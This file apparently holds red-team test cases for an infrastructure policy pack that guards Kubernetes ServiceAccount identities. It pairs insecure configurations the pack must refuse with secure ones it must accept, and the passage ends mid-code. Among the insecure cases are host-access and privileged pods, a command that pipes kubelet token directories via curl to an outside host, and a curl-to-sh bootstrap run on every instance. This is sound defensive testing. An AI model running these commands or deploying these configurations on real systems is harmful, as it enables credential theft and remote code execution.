// Red-team round 4 (fresh eyes) on identity: who can become the workload roles and act as their ServiceAccounts, on
// every committed stack (prod, dev, pod-identity, basil, trust-domain, curity, cross-account). New shapes only: host
// access that is not a literal hostPath of /var/lib/kubelet (PersistentVolumes, path spellings, the container
// runtime's socket, the host PID namespace), workload lists, admission and policy engines outside admissionregistration
// and kyverno.io (Kyverno's policies.kyverno.io, Gatekeeper mutators), CRD controllers that run pods as a named
// ServiceAccount (KEDA, Spark, Argo Rollouts), GitOps and add-on deployers whose objects the pack never sees, EKS Auto
// Mode node roles, Pod Security labels, remote commands and SSM on the hosts; and, for at least a third of the cases,
// the secure variants a careful platform team writes now that the pack refuses node identities, host-level pods,
// admission objects, opaque types and unmodelled identities.
//
// Insecure variants the whole pack must refuse (with the path message it must name), secure variants it must accept.
// A case the pack gets wrong is `skip` with a comment starting "MISS:" (why, and the document checked).
import { AnalyzerResourceInput } from "../../../tools/offline/analyzer";
import { assertClean, assertRefused, doc, resourceLike, Resources, runWholePack, stackResources } from "./support";

const PRIMARY = "111111111111";
const CURITY = "555555555555";
/** A role of the cluster account outside the stack (who can assume it is unknown to the pack). */
const SHARED_NODES = `arn:aws:iam::${PRIMARY}:role/shared-nodes`;
const ROLE = "aws:iam/role:Role";
const SA = "kubernetes:core/v1:ServiceAccount";
const RBAC = "kubernetes:rbac.authorization.k8s.io/v1";
const EFFECTIVE = "custody-effective-access";
const DEVS = { kind: "Group", name: "platform-devs", apiGroup: "rbac.authorization.k8s.io" };
const ONCALL = { kind: "Group", name: "validators-oncall", apiGroup: "rbac.authorization.k8s.io" };

/** A Kubernetes object through the stack's Kubernetes provider (the one its ServiceAccounts use). */
function k8s(r: Resources, type: string, name: string, inputs: Record<string, unknown>): void {
    const like = r.find(x => x.type === SA);
    if (!like) throw new Error("no ServiceAccount in the fixture");
    r.push(resourceLike(like, type, name, inputs));
}

/** An AWS resource through the provider of the stack's first role (its primary account). */
function aws(r: Resources, type: string, name: string, inputs: Record<string, unknown>, roleName?: string): void {
    const like = r.find(x => x.type === ROLE && (roleName === undefined || x.name === roleName));
    if (!like) throw new Error("no role in the fixture");
    r.push(resourceLike(like, type, name, inputs));
}

/** A resource on a provider package the stack does not otherwise use (command). */
function foreignProvider(r: Resources, type: string, name: string, pkg: string, inputs: object): void {
    const like = r.find(x => x.type === ROLE) as AnalyzerResourceInput;
    const stackPrefix = like.urn.split("::").slice(0, 2).join("::");
    r.push({
        ...resourceLike(like, type, name, inputs as Record<string, unknown>),
        provider: {
            urn: `${stackPrefix}::pulumi:providers:${pkg}::default`,
            type: `pulumi:providers:${pkg}`,
            name: "default",
            inputs: {},
        },
    } as AnalyzerResourceInput);
}

/** A ClusterRole or namespaced Role with these rules. */
function role(r: Resources, name: string, rules: object[], namespace?: string): void {
    k8s(r, `${RBAC}:${namespace ? "Role" : "ClusterRole"}`, `${name}-role`, {
        apiVersion: "rbac.authorization.k8s.io/v1",
        kind: namespace ? "Role" : "ClusterRole",
        metadata: namespace ? { name, namespace } : { name },
        rules,
    });
}

/** A RoleBinding (namespace given) or ClusterRoleBinding of a role to subjects. */
function bind(r: Resources, name: string, roleRef: { kind: string; name: string }, subjects: object[], ns?: string) {
    k8s(r, `${RBAC}:${ns ? "RoleBinding" : "ClusterRoleBinding"}`, `${name}-binding`, {
        apiVersion: "rbac.authorization.k8s.io/v1",
        kind: ns ? "RoleBinding" : "ClusterRoleBinding",
        metadata: ns ? { name, namespace: ns } : { name },
        roleRef: { apiGroup: "rbac.authorization.k8s.io", ...roleRef },
        subjects,
    });
}

/** A stack role trusted by a service, with one inline policy. */
function serviceRole(
    r: Resources,
    account: string,
    name: string,
    trust: object,
    statements: object[],
    roleName?: string,
): string {
    const arn = `arn:aws:iam::${account}:role/${name}`;
    aws(
        r,
        ROLE,
        name,
        {
            name,
            arn,
            assumeRolePolicy: doc(trust),
            inlinePolicies: [{ name: "p", policy: doc(...statements) }],
        },
        roleName,
    );
    return arn;
}

const ec2Trust = { Effect: "Allow", Principal: { Service: "ec2.amazonaws.com" }, Action: "sts:AssumeRole" };

/** The actions of AmazonEKSWorkerNodeMinimalPolicy and AmazonEC2ContainerRegistryPullOnly, written inline. */
const NODE_STATEMENTS = [
    {
        Sid: "WorkerNodeMinimal",
        Effect: "Allow",
        Action: ["eks:DescribeCluster", "eks-auth:AssumeRoleForPodIdentity"],
        Resource: "*",
    },
    {
        Sid: "RegistryPullOnly",
        Effect: "Allow",
        Action: ["ecr:GetAuthorizationToken", "ecr:BatchGetImage", "ecr:GetDownloadUrlForLayer"],
        Resource: "*",
    },
];

/** A DaemonSet in `namespace` with this pod spec (its own ServiceAccount). */
function daemonSet(r: Resources, name: string, namespace: string, spec: Record<string, unknown>): void {
    k8s(r, "kubernetes:apps/v1:DaemonSet", name, {
        apiVersion: "apps/v1",
        kind: "DaemonSet",
        metadata: { name, namespace },
        spec: {
            selector: { matchLabels: { app: name } },
            template: { metadata: { labels: { app: name } }, spec: { serviceAccountName: name, ...spec } },
        },
    });
}

/** A namespace of the stack with a Pod Security `enforce` level, and a group allowed to create pods in it. */
function podsInNamespace(r: Resources, ns: string, level: string): void {
    k8s(r, "kubernetes:core/v1:Namespace", ns, {
        apiVersion: "v1",
        kind: "Namespace",
        metadata: {
            name: ns,
            labels: {
                "pod-security.kubernetes.io/enforce": level,
                "pod-security.kubernetes.io/enforce-version": "latest",
            },
        },
    });
    role(
        r,
        "runner",
        [
            { apiGroups: [""], resources: ["pods"], verbs: ["create", "get", "list", "delete"] },
            { apiGroups: [""], resources: ["pods/log"], verbs: ["get"] },
        ],
        ns,
    );
    bind(r, "runner", { kind: "Role", name: "runner" }, [DEVS], ns);
}

type Case = {
    name: string;
    stack: string;
    edit: (r: Resources) => void;
    /** The path message the refusal must name. */
    refused?: RegExp;
    /** The policy that must report it (any policy when absent). */
    policy?: string;
    /** A case the pack still gets wrong: "MISS: <why>". */
    skip?: string;
};

const insecure: Case[] = [
    // ---- Host access that is not a literal hostPath of /var/lib/kubelet.
    {
        stack: "prod",
        name: "a hostPath PersistentVolume on /var/lib/kubelet, claimed by a PVC and mounted by a plain pod in tools",
        edit: r => {
            k8s(r, "kubernetes:core/v1:PersistentVolume", "node-cache", {
                apiVersion: "v1",
                kind: "PersistentVolume",
                metadata: { name: "node-cache" },
                spec: {
                    capacity: { storage: "1Gi" },
                    accessModes: ["ReadWriteOnce"],
                    storageClassName: "manual",
                    hostPath: { path: "/var/lib/kubelet", type: "Directory" },
                },
            });
            k8s(r, "kubernetes:core/v1:PersistentVolumeClaim", "node-cache-claim", {
                apiVersion: "v1",
                kind: "PersistentVolumeClaim",
                metadata: { name: "node-cache", namespace: "tools" },
                spec: {
                    accessModes: ["ReadWriteOnce"],
                    storageClassName: "manual",
                    volumeName: "node-cache",
                    resources: { requests: { storage: "1Gi" } },
                },
            });
            k8s(r, "kubernetes:core/v1:Pod", "cache-reader", {
                apiVersion: "v1",
                kind: "Pod",
                metadata: { name: "cache-reader", namespace: "tools" },
                spec: {
                    containers: [{ name: "c", image: "busybox", volumeMounts: [{ name: "v", mountPath: "/c" }] }],
                    volumes: [{ name: "v", persistentVolumeClaim: { claimName: "node-cache" } }],
                },
            });
        },
        refused: /node-cache[\s\S]*acts as ServiceAccount validators\/containment-chamber/,
        policy: EFFECTIVE,
    },
    {
        stack: "dev",
        name: "RBAC: a group may create PersistentVolumes (cluster-wide) and pods in its own sandbox namespace",
        edit: r => {
            role(r, "pv-creator", [
                { apiGroups: [""], resources: ["persistentvolumes"], verbs: ["create", "get", "list"] },
            ]);
            bind(r, "pv-creator", { kind: "ClusterRole", name: "pv-creator" }, [DEVS]);
            role(
                r,
                "sandbox-runner",
                [{ apiGroups: [""], resources: ["pods", "persistentvolumeclaims"], verbs: ["create", "get"] }],
                "sandbox",
            );
            bind(r, "sandbox-runner", { kind: "Role", name: "sandbox-runner" }, [DEVS], "sandbox");
        },
        refused: /platform-devs[\s\S]*persistentvolumes[\s\S]*containment-chamber/,
        policy: EFFECTIVE,
    },
    {
        stack: "prod",
        name: "a DaemonSet mounting /var/lib/./kubelet (the API rejects only '..' in a hostPath path)",
        edit: r =>
            daemonSet(r, "log-agent", "monitoring", {
                containers: [
                    { name: "agent", image: "vendor/log-agent:1.0", volumeMounts: [{ name: "k", mountPath: "/k" }] },
                ],
                volumes: [{ name: "k", hostPath: { path: "/var/lib/./kubelet", type: "Directory" } }],
            }),
        refused: /log-agent[\s\S]*acts as ServiceAccount validators\/containment-chamber/,
        policy: EFFECTIVE,
    },
    {
        stack: "pod-identity",
        name: "a DaemonSet mounting the containerd socket (/run/containerd/containerd.sock)",
        edit: r =>
            daemonSet(r, "image-scanner", "security", {
                containers: [
                    {
                        name: "scanner",
                        image: "vendor/scanner:2.3",
                        volumeMounts: [{ name: "sock", mountPath: "/run/containerd/containerd.sock" }],
                    },
                ],
                volumes: [{ name: "sock", hostPath: { path: "/run/containerd/containerd.sock", type: "Socket" } }],
            }),
        refused: /image-scanner[\s\S]*acts as ServiceAccount validators\/containment-chamber/,
        policy: EFFECTIVE,
    },
    {
        stack: "trust-domain",
        name: "a profiler DaemonSet in the host PID namespace with SYS_PTRACE (reads /proc/<pid>/root of every pod)",
        edit: r =>
            daemonSet(r, "profiler", "observability", {
                hostPID: true,
                containers: [
                    {
                        name: "profiler",
                        image: "vendor/ebpf-profiler:0.9",
                        securityContext: { capabilities: { add: ["SYS_PTRACE"] } },
                    },
                ],
            }),
        refused: /profiler[\s\S]*acts as ServiceAccount spirl-system\/spirl-server/,
        policy: EFFECTIVE,
    },
    {
        stack: "prod",
        name: "a DaemonSetList whose one item runs a privileged container",
        edit: r =>
            k8s(r, "kubernetes:apps/v1:DaemonSetList", "node-agents", {
                apiVersion: "apps/v1",
                kind: "DaemonSetList",
                items: [
                    {
                        apiVersion: "apps/v1",
                        kind: "DaemonSet",
                        metadata: { name: "node-tuner", namespace: "kube-system" },
                        spec: {
                            selector: { matchLabels: { app: "node-tuner" } },
                            template: {
                                metadata: { labels: { app: "node-tuner" } },
                                spec: {
                                    containers: [
                                        { name: "t", image: "vendor/tuner:1", securityContext: { privileged: true } },
                                    ],
                                },
                            },
                        },
                    },
                ],
            }),
        refused: /node-tuner[\s\S]*acts as ServiceAccount validators\/containment-chamber/,
        policy: EFFECTIVE,
    },
    // ---- Admission and policy engines outside admissionregistration.k8s.io and kyverno.io.
    {
        stack: "dev",
        name: "a Kyverno MutatingPolicy (policies.kyverno.io) adding an init container to pods in validators",
        edit: r =>
            k8s(r, "kubernetes:policies.kyverno.io/v1alpha1:MutatingPolicy", "add-debug-init", {
                apiVersion: "policies.kyverno.io/v1alpha1",
                kind: "MutatingPolicy",
                metadata: { name: "add-debug-init" },
                spec: {
                    matchConstraints: {
                        resourceRules: [
                            { apiGroups: [""], apiVersions: ["v1"], operations: ["CREATE"], resources: ["pods"] },
                        ],
                        namespaceSelector: { matchLabels: { "kubernetes.io/metadata.name": "validators" } },
                    },
                    mutations: [
                        {
                            patchType: "ApplyConfiguration",
                            applyConfiguration: {
                                expression:
                                    'Object{spec: Object.spec{initContainers: [Object.spec.initContainers{name: "debug", image: "vendor/debug:latest"}]}}',
                            },
                        },
                    ],
                },
            }),
        refused: /MutatingPolicy add-debug-init is a custom resource: its controller acts with its own ServiceAccount/,
        policy: EFFECTIVE,
    },
    {
        stack: "pod-identity",
        name: "a Gatekeeper AssignImage mutator rewriting the image of every container in validators",
        edit: r =>
            k8s(r, "kubernetes:mutations.gatekeeper.sh/v1:AssignImage", "mirror-images", {
                apiVersion: "mutations.gatekeeper.sh/v1",
                kind: "AssignImage",
                metadata: { name: "mirror-images" },
                spec: {
                    applyTo: [{ groups: [""], kinds: ["Pod"], versions: ["v1"] }],
                    location: "spec.containers[name:*].image",
                    match: {
                        scope: "Namespaced",
                        namespaces: ["validators"],
                        kinds: [{ apiGroups: ["*"], kinds: ["Pod"] }],
                    },
                    parameters: { assignDomain: "registry.vendor.example", assignPath: "mirror/any" },
                },
            }),
        refused: /AssignImage mirror-images is a custom resource: its controller acts with its own ServiceAccount/,
        policy: EFFECTIVE,
    },
    {
        stack: "prod",
        name: "RBAC: a group may create Kyverno ClusterPolicies (a mutate rule rewrites the signer's pods)",
        edit: r => {
            role(r, "policy-author", [
                {
                    apiGroups: ["kyverno.io"],
                    resources: ["clusterpolicies", "policies"],
                    verbs: ["create", "update", "patch"],
                },
            ]);
            bind(r, "policy-author", { kind: "ClusterRole", name: "policy-author" }, [DEVS]);
        },
        refused: /platform-devs[\s\S]*acts as ServiceAccount validators\/containment-chamber/,
        policy: EFFECTIVE,
    },
    // ---- Controllers that run pods as the ServiceAccount a custom resource names.
    {
        stack: "basil",
        name: "RBAC: a group may create KEDA ScaledJobs in basil-bootstrap (KEDA runs Jobs from the template, as the provisioner)",
        edit: r => {
            role(
                r,
                "scaledjobs",
                [{ apiGroups: ["keda.sh"], resources: ["scaledjobs"], verbs: ["create", "update"] }],
                "basil-bootstrap",
            );
            bind(r, "scaledjobs", { kind: "Role", name: "scaledjobs" }, [DEVS], "basil-bootstrap");
        },
        refused: /platform-devs[\s\S]*acts as ServiceAccount basil-bootstrap\/basil-provisioner/,
        policy: EFFECTIVE,
    },
    {
        stack: "curity",
        name: "RBAC: a group may create Argo Rollouts in curity (the controller runs their pod template)",
        edit: r => {
            role(
                r,
                "rollouts",
                [{ apiGroups: ["argoproj.io"], resources: ["rollouts"], verbs: ["create", "patch"] }],
                "curity",
            );
            bind(r, "rollouts", { kind: "Role", name: "rollouts" }, [DEVS], "curity");
        },
        refused: /platform-devs[\s\S]*acts as ServiceAccount curity\/dynamo-sa/,
        policy: EFFECTIVE,
    },
    {
        stack: "prod",
        name: "RBAC: a group may create SparkApplications in validators (the operator starts the driver as spec.driver.serviceAccount)",
        edit: r => {
            role(
                r,
                "spark-submit",
                [{ apiGroups: ["sparkoperator.k8s.io"], resources: ["sparkapplications"], verbs: ["create"] }],
                "validators",
            );
            bind(r, "spark-submit", { kind: "Role", name: "spark-submit" }, [DEVS], "validators");
        },
        refused: /platform-devs[\s\S]*acts as ServiceAccount validators\/containment-chamber/,
        policy: EFFECTIVE,
    },
    // ---- Deployers whose objects the pack never sees.
    {
        stack: "trust-domain",
        name: "an Argo CD Application syncing a Git repository into the cluster (any object the repository holds)",
        edit: r =>
            k8s(r, "kubernetes:argoproj.io/v1alpha1:Application", "platform-addons", {
                apiVersion: "argoproj.io/v1alpha1",
                kind: "Application",
                metadata: { name: "platform-addons", namespace: "argocd" },
                spec: {
                    project: "default",
                    source: {
                        repoURL: "https://github.com/example-org/platform-addons.git",
                        path: "overlays/identity",
                        targetRevision: "HEAD",
                    },
                    destination: { server: "https://kubernetes.default.svc" },
                    syncPolicy: { automated: { prune: true, selfHeal: true } },
                },
            }),
        refused: /platform-addons/,
    },
    {
        stack: "curity",
        name: "a Flux HelmRelease installing a chart from a public Helm repository",
        edit: r =>
            k8s(r, "kubernetes:helm.toolkit.fluxcd.io/v2:HelmRelease", "observability", {
                apiVersion: "helm.toolkit.fluxcd.io/v2",
                kind: "HelmRelease",
                metadata: { name: "observability", namespace: "flux-system" },
                spec: {
                    interval: "10m",
                    chart: {
                        spec: { chart: "agent", version: "3.x", sourceRef: { kind: "HelmRepository", name: "vendor" } },
                    },
                    targetNamespace: "observability",
                    values: { rbac: { create: true } },
                },
            }),
        refused: /observability/,
    },
    {
        stack: "prod",
        name: "an EKS add-on from AWS Marketplace (a vendor's operator and node agent installed by EKS)",
        edit: r =>
            aws(r, "aws:eks/addon:Addon", "datadog-operator", {
                clusterName: "prod-validators",
                addonName: "datadog_operator",
                addonVersion: "v1.10.0-eksbuild.1",
                resolveConflictsOnCreate: "OVERWRITE",
            }),
        refused: /datadog/,
    },
    {
        stack: "basil",
        name: "a remote Command on a cluster node copying /var/lib/kubelet's projected tokens (no cloud CLI in it)",
        edit: r =>
            foreignProvider(r, "command:remote:Command", "collect-node-diagnostics", "command", {
                connection: { host: "10.0.12.34", user: "ec2-user", privateKey: "[secret]" },
                create: "sudo tar czf - /var/lib/kubelet/pods | curl -fsS -X PUT --data-binary @- https://diag.vendor.example/upload",
            }),
        refused: /collect-node-diagnostics/,
    },
    {
        stack: "cross-account",
        name: "an SSM association running a shell script from a public URL on every instance of account B (code as instance-role)",
        edit: r =>
            aws(
                r,
                "aws:ssm/association:Association",
                "fleet-bootstrap",
                {
                    name: "AWS-RunShellScript",
                    targets: [{ key: "InstanceIds", values: ["*"] }],
                    parameters: { commands: "curl -fsS https://bootstrap.vendor.example/agent.sh | sh" },
                },
                "cross-account-caller",
            ),
        refused: /fleet-bootstrap/,
    },
    // ---- Node identities EKS creates itself.
    {
        stack: "pod-identity",
        name: "the cluster in EKS Auto Mode, managed by the stack, whose node role is an outside role",
        edit: r =>
            aws(r, "aws:eks/cluster:Cluster", "prod-validators", {
                name: "prod-validators",
                arn: `arn:aws:eks:eu-west-1:${PRIMARY}:cluster/prod-validators`,
                roleArn: `arn:aws:iam::${PRIMARY}:role/prod-validators-cluster`,
                bootstrapSelfManagedAddons: false,
                accessConfig: { authenticationMode: "API", bootstrapClusterCreatorAdminPermissions: false },
                computeConfig: { enabled: true, nodePools: ["general-purpose", "system"], nodeRoleArn: SHARED_NODES },
                kubernetesNetworkConfig: { elasticLoadBalancing: { enabled: true } },
                storageConfig: { blockStorage: { enabled: true } },
                vpcConfig: { subnetIds: ["subnet-0123456789abcdef0", "subnet-0fedcba9876543210"] },
            }),
        refused: /shared-nodes[\s\S]*validators\/containment-chamber/,
        policy: EFFECTIVE,
    },
    {
        stack: "prod",
        name: "a group may create pods in a namespace the stack labels pod-security enforce: privileged",
        // Was a MISS (round 4, fixed in round 7): pod creation in a namespace that admits privileged pods (no Pod
        // Security enforce baseline/restricted; EKS's default is privileged) is a node's power (engine/kubernetes.ts
        // podSecurityWidened).
        edit: r => podsInNamespace(r, "tools", "privileged"),
        refused: /platform-devs[\s\S]*acts as ServiceAccount validators\/containment-chamber/,
        policy: EFFECTIVE,
    },
    // ---- IAM paths into the cluster (refused, with the path named).
    {
        stack: "curity",
        name: "a stack role allowed eks:AssociateIdentityProviderConfig (its own OIDC IdP mints any user and group)",
        edit: r => {
            serviceRole(
                r,
                CURITY,
                "cluster-sso",
                { Effect: "Allow", Principal: { Service: "codebuild.amazonaws.com" }, Action: "sts:AssumeRole" },
                [
                    {
                        Effect: "Allow",
                        Action: ["eks:AssociateIdentityProviderConfig", "eks:DescribeCluster"],
                        Resource: `arn:aws:eks:eu-west-1:${CURITY}:cluster/*`,
                    },
                ],
            );
        },
        refused: /cluster-sso[\s\S]*eks:AssociateIdentityProviderConfig/,
    },
    // Decided this session (pod-spec allowlist): the node's processes (hostPID, /proc) are reachable for any container of the same uid (ptrace(2)).
    {
        stack: "prod",
        // Without hostNetwork since round 10: a host-network pod reaches the node role through instance metadata.
        name: "node-exporter: hostPID, /proc and /sys read-only, non-root, every capability dropped",
        edit: r =>
            daemonSet(r, "node-exporter", "monitoring", {
                hostPID: true,
                securityContext: { runAsNonRoot: true, runAsUser: 65534 },
                containers: [
                    {
                        name: "node-exporter",
                        image: "quay.io/prometheus/node-exporter:v1.8.2",
                        args: ["--path.procfs=/host/proc", "--path.sysfs=/host/sys"],
                        securityContext: {
                            allowPrivilegeEscalation: false,
                            readOnlyRootFilesystem: true,
                            capabilities: { drop: ["ALL"] },
                        },
                        volumeMounts: [
                            { name: "proc", mountPath: "/host/proc", readOnly: true },
                            { name: "sys", mountPath: "/host/sys", readOnly: true },
                        ],
                    },
                ],
                volumes: [
                    { name: "proc", hostPath: { path: "/proc" } },
                    { name: "sys", hostPath: { path: "/sys" } },
                ],
            }),
        refused: /hostPID, the node's processes|hostPath \/proc/,
    },
];

const secure: Case[] = [
    // ---- Admission objects a careful platform runs.
    {
        stack: "prod",
        name: "cert-manager's MutatingWebhookConfiguration, whose rules match only cert-manager.io resources (never pods)",
        edit: r =>
            k8s(r, "kubernetes:admissionregistration.k8s.io/v1:MutatingWebhookConfiguration", "cert-manager-webhook", {
                apiVersion: "admissionregistration.k8s.io/v1",
                kind: "MutatingWebhookConfiguration",
                metadata: { name: "cert-manager-webhook" },
                webhooks: [
                    {
                        name: "webhook.cert-manager.io",
                        admissionReviewVersions: ["v1"],
                        sideEffects: "None",
                        failurePolicy: "Fail",
                        clientConfig: {
                            service: { name: "cert-manager-webhook", namespace: "cert-manager", path: "/mutate" },
                        },
                        rules: [
                            {
                                apiGroups: ["cert-manager.io", "acme.cert-manager.io"],
                                apiVersions: ["v1"],
                                operations: ["CREATE", "UPDATE"],
                                resources: ["*/*"],
                            },
                        ],
                    },
                ],
            }),
    },
    {
        stack: "dev",
        name: "a Kyverno ClusterPolicy with validate rules only (restricted Pod Security in validators)",
        edit: r =>
            k8s(r, "kubernetes:kyverno.io/v1:ClusterPolicy", "restrict-validators", {
                apiVersion: "kyverno.io/v1",
                kind: "ClusterPolicy",
                metadata: { name: "restrict-validators" },
                spec: {
                    validationFailureAction: "Enforce",
                    background: true,
                    rules: [
                        {
                            name: "restricted",
                            match: { any: [{ resources: { kinds: ["Pod"], namespaces: ["validators"] } }] },
                            validate: { podSecurity: { level: "restricted", version: "latest" } },
                        },
                    ],
                },
            }),
    },
    {
        stack: "prod",
        name: "a Kyverno ClusterPolicy whose only mutate rule labels ConfigMaps",
        skip: "Kept refused by design: a mutate rule on ConfigMaps can rewrite kube-system/aws-auth (cluster admin); the pack does not judge which ConfigMaps a Kyverno rule matches.",
        edit: r =>
            k8s(r, "kubernetes:kyverno.io/v1:ClusterPolicy", "label-configmaps", {
                apiVersion: "kyverno.io/v1",
                kind: "ClusterPolicy",
                metadata: { name: "label-configmaps" },
                spec: {
                    rules: [
                        {
                            name: "owner-label",
                            match: { any: [{ resources: { kinds: ["ConfigMap"] } }] },
                            mutate: {
                                patchStrategicMerge: { metadata: { labels: { "platform.example/owner": "custody" } } },
                            },
                        },
                    ],
                },
            }),
    },
    {
        stack: "prod",
        name: "a ValidatingAdmissionPolicy and binding: only the signer's Deployment may use containment-chamber",
        edit: r => {
            k8s(r, "kubernetes:admissionregistration.k8s.io/v1:ValidatingAdmissionPolicy", "pin-signer-sa", {
                apiVersion: "admissionregistration.k8s.io/v1",
                kind: "ValidatingAdmissionPolicy",
                metadata: { name: "pin-signer-sa" },
                spec: {
                    failurePolicy: "Fail",
                    matchConstraints: {
                        resourceRules: [
                            {
                                apiGroups: [""],
                                apiVersions: ["v1"],
                                operations: ["CREATE", "UPDATE"],
                                resources: ["pods"],
                            },
                        ],
                    },
                    validations: [
                        {
                            expression:
                                "object.spec.serviceAccountName != 'containment-chamber' || object.metadata.labels['app'] == 'containment-chamber'",
                            message: "only the signer runs as containment-chamber",
                        },
                    ],
                },
            });
            k8s(
                r,
                "kubernetes:admissionregistration.k8s.io/v1:ValidatingAdmissionPolicyBinding",
                "pin-signer-sa-binding",
                {
                    apiVersion: "admissionregistration.k8s.io/v1",
                    kind: "ValidatingAdmissionPolicyBinding",
                    metadata: { name: "pin-signer-sa" },
                    spec: {
                        policyName: "pin-signer-sa",
                        validationActions: ["Deny"],
                        matchResources: {
                            namespaceSelector: { matchLabels: { "kubernetes.io/metadata.name": "validators" } },
                        },
                    },
                },
            );
        },
    },
    {
        stack: "pod-identity",
        name: "Gatekeeper's validating webhook with a ConstraintTemplate and a host-filesystem constraint",
        edit: r => {
            k8s(
                r,
                "kubernetes:admissionregistration.k8s.io/v1:ValidatingWebhookConfiguration",
                "gatekeeper-validating",
                {
                    apiVersion: "admissionregistration.k8s.io/v1",
                    kind: "ValidatingWebhookConfiguration",
                    metadata: { name: "gatekeeper-validating-webhook-configuration" },
                    webhooks: [
                        {
                            name: "validation.gatekeeper.sh",
                            admissionReviewVersions: ["v1"],
                            sideEffects: "None",
                            failurePolicy: "Ignore",
                            clientConfig: {
                                service: {
                                    name: "gatekeeper-webhook-service",
                                    namespace: "gatekeeper-system",
                                    path: "/v1/admit",
                                },
                            },
                            rules: [
                                {
                                    apiGroups: ["*"],
                                    apiVersions: ["*"],
                                    operations: ["CREATE", "UPDATE"],
                                    resources: ["*"],
                                },
                            ],
                        },
                    ],
                },
            );
            k8s(r, "kubernetes:templates.gatekeeper.sh/v1:ConstraintTemplate", "k8spsphostfilesystem", {
                apiVersion: "templates.gatekeeper.sh/v1",
                kind: "ConstraintTemplate",
                metadata: { name: "k8spsphostfilesystem" },
                spec: {
                    crd: { spec: { names: { kind: "K8sPSPHostFilesystem" } } },
                    targets: [
                        {
                            target: "admission.k8s.gatekeeper.sh",
                            rego: 'package k8spsphostfilesystem\nviolation[{"msg": "hostPath"}] { input.review.object.spec.volumes[_].hostPath }',
                        },
                    ],
                },
            });
            k8s(r, "kubernetes:constraints.gatekeeper.sh/v1beta1:K8sPSPHostFilesystem", "no-host-filesystem", {
                apiVersion: "constraints.gatekeeper.sh/v1beta1",
                kind: "K8sPSPHostFilesystem",
                metadata: { name: "no-host-filesystem" },
                spec: { match: { kinds: [{ apiGroups: [""], kinds: ["Pod"] }] }, parameters: { allowedHostPaths: [] } },
            });
        },
    },
    // ---- Host-level pods that are not.
    {
        stack: "curity",
        name: "a Fluent Bit log shipper reading /var/log/containers and /var/log/pods read-only (no token there)",
        edit: r =>
            daemonSet(r, "fluent-bit", "logging", {
                containers: [
                    {
                        name: "fluent-bit",
                        image: "public.ecr.aws/aws-observability/aws-for-fluent-bit:2.32.2",
                        securityContext: { allowPrivilegeEscalation: false, capabilities: { drop: ["ALL"] } },
                        volumeMounts: [
                            { name: "containers", mountPath: "/var/log/containers", readOnly: true },
                            { name: "pods", mountPath: "/var/log/pods", readOnly: true },
                        ],
                    },
                ],
                volumes: [
                    { name: "containers", hostPath: { path: "/var/log/containers" } },
                    { name: "pods", hostPath: { path: "/var/log/pods" } },
                ],
            }),
    },
    {
        stack: "prod",
        name: "a group may create pods in a namespace the stack labels pod-security enforce: restricted",
        edit: r => podsInNamespace(r, "tools", "restricted"),
    },
    // ---- RBAC for operators that never runs code as the signer.
    {
        stack: "prod",
        // Round 82: without port-forward, which tunnels into the signer pod's own listeners and is refused
        // (kubernetes.ts podChannelOfRule; redteam82-secure pod-portforward, redteam9 curity port-forward).
        name: "on-call in validators: read pods, logs and events, delete pods, scale the Deployment",
        edit: r => {
            role(
                r,
                "oncall",
                [
                    { apiGroups: [""], resources: ["pods", "pods/log", "events"], verbs: ["get", "list", "watch"] },
                    { apiGroups: [""], resources: ["pods"], verbs: ["delete"] },
                    { apiGroups: ["apps"], resources: ["deployments/scale"], verbs: ["get", "patch", "update"] },
                ],
                "validators",
            );
            bind(r, "oncall", { kind: "Role", name: "oncall" }, [ONCALL], "validators");
        },
    },
    {
        stack: "prod",
        name: "cert rotation in validators: get on the one Secret signer-tls (resourceNames)",
        edit: r => {
            role(
                r,
                "tls-reader",
                [{ apiGroups: [""], resources: ["secrets"], resourceNames: ["signer-tls"], verbs: ["get"] }],
                "validators",
            );
            bind(r, "tls-reader", { kind: "Role", name: "tls-reader" }, [ONCALL], "validators");
        },
    },
    {
        stack: "dev",
        name: "a group may read Argo Workflows in validators (get, list, watch: no create)",
        edit: r => {
            role(
                r,
                "workflow-viewer",
                [
                    {
                        apiGroups: ["argoproj.io"],
                        resources: ["workflows", "workflowtemplates"],
                        verbs: ["get", "list", "watch"],
                    },
                ],
                "validators",
            );
            bind(r, "workflow-viewer", { kind: "Role", name: "workflow-viewer" }, [ONCALL], "validators");
        },
    },
    // ---- Node identities held by EC2 (or Fargate) alone.
    {
        stack: "pod-identity",
        name: "a managed node group whose node role is trusted only by EC2, with AmazonEKSWorkerNodeMinimalPolicy and registry pull written inline",
        edit: r => {
            const nodeRole = serviceRole(r, PRIMARY, "validators-nodes", ec2Trust, NODE_STATEMENTS);
            // Instance metadata closed to pods, explicitly (a node group without a launch template is refused).
            aws(r, "aws:ec2/launchTemplate:LaunchTemplate", "validators-nodes", {
                name: "validators-nodes",
                metadataOptions: { httpEndpoint: "enabled", httpTokens: "required", httpPutResponseHopLimit: 1 },
            });
            aws(r, "aws:eks/nodeGroup:NodeGroup", "validators-nodes", {
                clusterName: "prod-validators",
                nodeGroupName: "validators-nodes",
                launchTemplate: { name: "validators-nodes", version: "$Latest" },
                nodeRoleArn: nodeRole,
                subnetIds: ["subnet-0123456789abcdef0"],
                scalingConfig: { desiredSize: 2, maxSize: 3, minSize: 2 },
                taints: [{ key: "custody", value: "signer", effect: "NO_SCHEDULE" }],
            });
        },
    },
    {
        stack: "prod",
        name: "a Fargate profile for batch-reports whose pod execution role is trusted by EKS Fargate for this account only",
        edit: r => {
            const podRole = serviceRole(
                r,
                PRIMARY,
                "batch-reports-fargate",
                {
                    Effect: "Allow",
                    Principal: { Service: "eks-fargate-pods.amazonaws.com" },
                    Action: "sts:AssumeRole",
                    Condition: {
                        ArnLike: {
                            "aws:SourceArn": `arn:aws:eks:eu-west-1:${PRIMARY}:fargateprofile/prod-validators/*`,
                        },
                    },
                },
                [NODE_STATEMENTS[1]],
            );
            aws(r, "aws:eks/fargateProfile:FargateProfile", "batch-reports", {
                clusterName: "prod-validators",
                fargateProfileName: "batch-reports",
                podExecutionRoleArn: podRole,
                subnetIds: ["subnet-0123456789abcdef0"],
                selectors: [{ namespace: "batch-reports" }],
            });
        },
    },
    // ---- Opaque types a careful team still uses.
    {
        stack: "trust-domain",
        name: "a CloudFormation stack of CloudWatch alarms on KMS usage whose template groups its parameters (AWS::CloudFormation::Interface)",
        edit: r =>
            aws(r, "aws:cloudformation/stack:Stack", "kms-usage-alarms", {
                name: "kms-usage-alarms",
                parameters: { Threshold: "100" },
                templateBody: JSON.stringify({
                    AWSTemplateFormatVersion: "2010-09-09",
